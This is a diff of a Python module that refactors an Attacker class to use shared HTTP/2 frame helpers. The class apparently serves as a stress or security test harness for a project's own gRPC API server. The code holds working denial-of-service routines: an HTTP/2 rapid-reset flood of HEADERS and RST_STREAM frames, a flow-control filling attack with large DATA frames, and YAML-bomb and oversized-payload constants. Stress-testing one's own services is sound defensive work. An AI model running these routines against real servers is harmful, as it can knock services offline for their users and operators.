@@ -19,6 +19,18 @@ from urllib.parse import SplitResult, urlsplit
 
 import aiohttp
 
+from apiserver.storage.frames import (
+    ACK,
+    DATA,
+    END_HEADERS,
+    HEADERS,
+    PREFACE,
+    RST_STREAM,
+    SETTINGS,
+    WINDOW_UPDATE,
+    frame,
+)  # fmt: skip
+
 AT_ONCE = 50
 SECONDS = 5.0
 """How long those go on that would never end."""
@@ -30,8 +42,6 @@ UPGRADE = (
 )
 BOMB, BOMB_YAML = 100 << 20, b"[" + b",".join([b"{a: b}"] * 350_000) + b"]"
 MESSAGE = 15 << 20
-HEADERS, DATA, RESET, SETTINGS, WINDOW, CONTINUATION = 1, 0, 3, 4, 8, 9
-PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
 
 @dataclass
@@ -60,7 +70,7 @@ class Attacker:
         tls = self.tls()
         tls.set_alpn_protocols(["h2"])
         reader, writer = await self.connect(self.grpc, tls)
-        writer.write(PREFACE + _frame(SETTINGS, 0, 0))
+        writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))
         return reader, writer
 
     async def send(self, writer: asyncio.StreamWriter, *pieces: bytes) -> None:
@@ -154,7 +164,7 @@ async def resets(of: Attacker) -> None:
             calls = range(number, number + 100, 2)
             number += 100
             head, cancel = _head(of.method), struct.pack(">I", 8)
-            frames = (_frame(HEADERS, 4, n, head) + _frame(RESET, 0, n, cancel) for n in calls)
+            frames = (frame(HEADERS, END_HEADERS, n, head) + frame(RST_STREAM, 0, n, cancel) for n in calls)
             await of.send(writer, b"".join(frames))
             await asyncio.sleep(0)
 
@@ -227,7 +237,7 @@ async def _fill(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, stre
     room, first = {0: 65535} | dict.fromkeys(streams, 65535), 65535
     beginning = b"\0" + struct.pack(">I", MESSAGE)
     for number in streams:
-        writer.write(_frame(HEADERS, 4, number, _head(method)) + _frame(DATA, 0, number, beginning))
+        writer.write(frame(HEADERS, END_HEADERS, number, _head(method)) + frame(DATA, 0, number, beginning))
         room[0] -= 5
         room[number] -= 5
     try:
@@ -236,21 +246,21 @@ async def _fill(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, stre
                 for number in [n for n in room if n]:
                     size = min(room[0], room[number], 16384)
                     if size > 0:
-                        writer.write(_frame(DATA, 0, number, b"x" * size))
+                        writer.write(frame(DATA, 0, number, b"x" * size))
                         room[0] -= size
                         room[number] -= size
                 await writer.drain()
                 kind, flags, number, payload = await _next(reader)
-                if kind == WINDOW and number in room:
+                if kind == WINDOW_UPDATE and number in room:
                     room[number] += struct.unpack(">I", payload)[0]
                 elif kind == SETTINGS and not flags:
-                    writer.write(_frame(SETTINGS, 1, 0))
+                    writer.write(frame(SETTINGS, ACK, 0, b""))
                     for at in range(0, len(payload), 6):
                         name, value = struct.unpack_from(">HI", payload, at)
                         if name == 4:
                             room = {n: has + (value - first if n else 0) for n, has in room.items()}
                             first = value
-                elif kind == RESET:
+                elif kind == RST_STREAM:
                     room.pop(number, None)
     except TimeoutError:
         return
@@ -259,10 +269,6 @@ async def _fill(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, stre
 async def _next(reader: asyncio.StreamReader) -> tuple[int, int, int, bytes]:
     head = await reader.readexactly(9)
     return head[3], head[4], int.from_bytes(head[5:]), await reader.readexactly(int.from_bytes(head[:3]))
-
-
-def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
-    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload
 
 
 def _head(method: str) -> bytes:
